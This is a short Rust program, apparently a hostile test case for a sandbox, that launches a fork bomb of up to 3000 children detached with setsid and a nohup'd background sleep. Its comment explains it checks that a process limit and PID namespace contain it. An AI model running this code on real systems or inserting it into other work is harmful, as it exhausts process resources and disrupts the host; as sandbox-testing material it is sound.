//! Hostile: a fork bomb whose children leave the process group and the
//! session (`setsid`) and outlive the program (`nohup … &`). The process
//! limit stops the bomb; the PID namespace ends every escaped child with the
//! sandbox, so nothing is left running.
use std::process::{Command, Stdio};

fn main() {
    if std::env::args().nth(1).as_deref() == Some("child") {
        std::thread::sleep(std::time::Duration::from_secs(1000));
        return;
    }
    if std::fs::create_dir("/dev/shm/netlings-fork-bomb").is_ok() {
        let me = std::env::current_exe().unwrap_or_default();
        let _ = Command::new("sh")
            .args(["-c", "nohup setsid sleep 1000 >/dev/null 2>&1 &"])
            .status();
        for _ in 0..3000 {
            let spawned = Command::new("setsid")
                .arg(&me)
                .arg("child")
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn();
            if spawned.is_err() {
                eprintln!("the process limit stopped the bomb");
                break;
            }
        }
    }
    std::process::exit(1);
}
